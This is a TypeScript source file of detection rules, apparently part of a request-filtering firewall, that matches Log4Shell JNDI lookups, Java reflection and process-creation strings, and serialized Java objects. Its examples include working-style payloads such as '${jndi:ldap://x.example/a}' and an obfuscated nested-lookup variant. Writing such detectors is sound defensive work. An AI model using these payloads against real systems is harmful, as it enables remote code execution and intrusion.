import { type Rule, SCORE } from '../types.ts';

/** Log4Shell lookups, including `${${::-j}ndi:` style splitting. */
const JNDI =
  /\$\{(?:[^}]{0,40}:-?j|j)[^}]{0,40}n[^}]{0,40}d[^}]{0,40}i[^}]{0,10}:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):|\$\{\s*(?:jndi|ldap|rmi|dns|env|sys|java|lower|upper|main|ctx|spring|base64|date|script):/;

/** One Log4j lookup that only yields a literal: `${::-j}`, `${env:X:-j}`, `${lower:J}`, `${upper:j}`. */
const LITERAL_LOOKUP = /\$\{(?:[^{}]{0,60}?:-([^{}]{0,20})|(?:lower|upper):([^{}]{0,20}))\}/g;

/** The value with literal-yielding lookups replaced by their literal (a few rounds: they nest). */
function unnestLookups(lower: string): string {
  let s = lower;
  for (let round = 0; round < 4; round++) {
    const next = s.replace(
      LITERAL_LOOKUP,
      (_m, a: string | undefined, b: string | undefined) => a ?? b ?? '',
    );
    if (next === s) break;
    s = next;
  }
  return s;
}

/** Java reflection, process creation, OGNL/SpEL and class-loader tricks. */
const JAVA_CODE =
  /\bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect)|io\.(?:file|objectinputstream)|net\.(?:url|socket))|\bruntime\s*\.\s*getruntime\s*\(|\bprocessbuilder\b|\.getclass\s*\(\s*\)|\bclass\.(?:module\.)?classloader\b|#_memberaccess|@java\.lang|%\{\s*[#(]|\bt\s*\(\s*java\.|\bscriptengine(?:manager)?\b|\bobjectinputstream\b|\bxmldecoder\b/;

/** Serialized Java objects (binary magic, base64 and hex forms). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the binary stream magic AC ED 00 05 is what this matches
const SERIALIZED = /\xac\xed\x00\x05|\brO0AB|\baced0005/i;

/** Java injection rules. */
export const JAVA_RULES: Rule[] = [
  {
    id: 'java-jndi',
    view: 'lower',
    operator: 'pattern',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j lookups, not templates
    examples: ['${jndi:ldap://x.example/a}', '${${::-j}ndi:rmi://x/a}'],
    family: 'java',
    paranoia: 1,
    score: SCORE.critical,
    description: 'Log4Shell-style JNDI lookup, also when split by nested lookups',
    test: (v) =>
      (v.lower.includes('${') || v.lower.includes('jndi:')) &&
      (JNDI.test(v.lower) ||
        (v.lower.includes(':-') || v.lower.includes('er:') ? JNDI.test(unnestLookups(v.lower)) : false)),
  },
  {
    id: 'java-code',
    view: 'lower',
    operator: 'pattern',
    triggers: {
      words: [
        'java',
        'processbuilder',
        'scriptengine',
        'scriptenginemanager',
        'objectinputstream',
        'xmldecoder',
        'classloader',
      ],
    },
    examples: ['java.lang.Runtime', 'new ProcessBuilder(x)', 'class.classLoader'],
    plain: true,
    family: 'java',
    paranoia: 1,
    score: SCORE.critical,
    description: 'Java reflection, process creation, OGNL or class-loader access',
    test: (v) => JAVA_CODE.test(v.lower),
  },
  {
    id: 'java-serialized',
    view: 'decoded',
    operator: 'pattern',
    triggers: { word: /^(?:ro0ab|aced0005)/ },
    examples: ['rO0ABXNyABFqYXZh'],
    plain: true,
    family: 'java',
    paranoia: 1,
    score: SCORE.critical,
    description: 'Serialized Java object',
    test: (v) => SERIALIZED.test(v.decoded),
  },
];
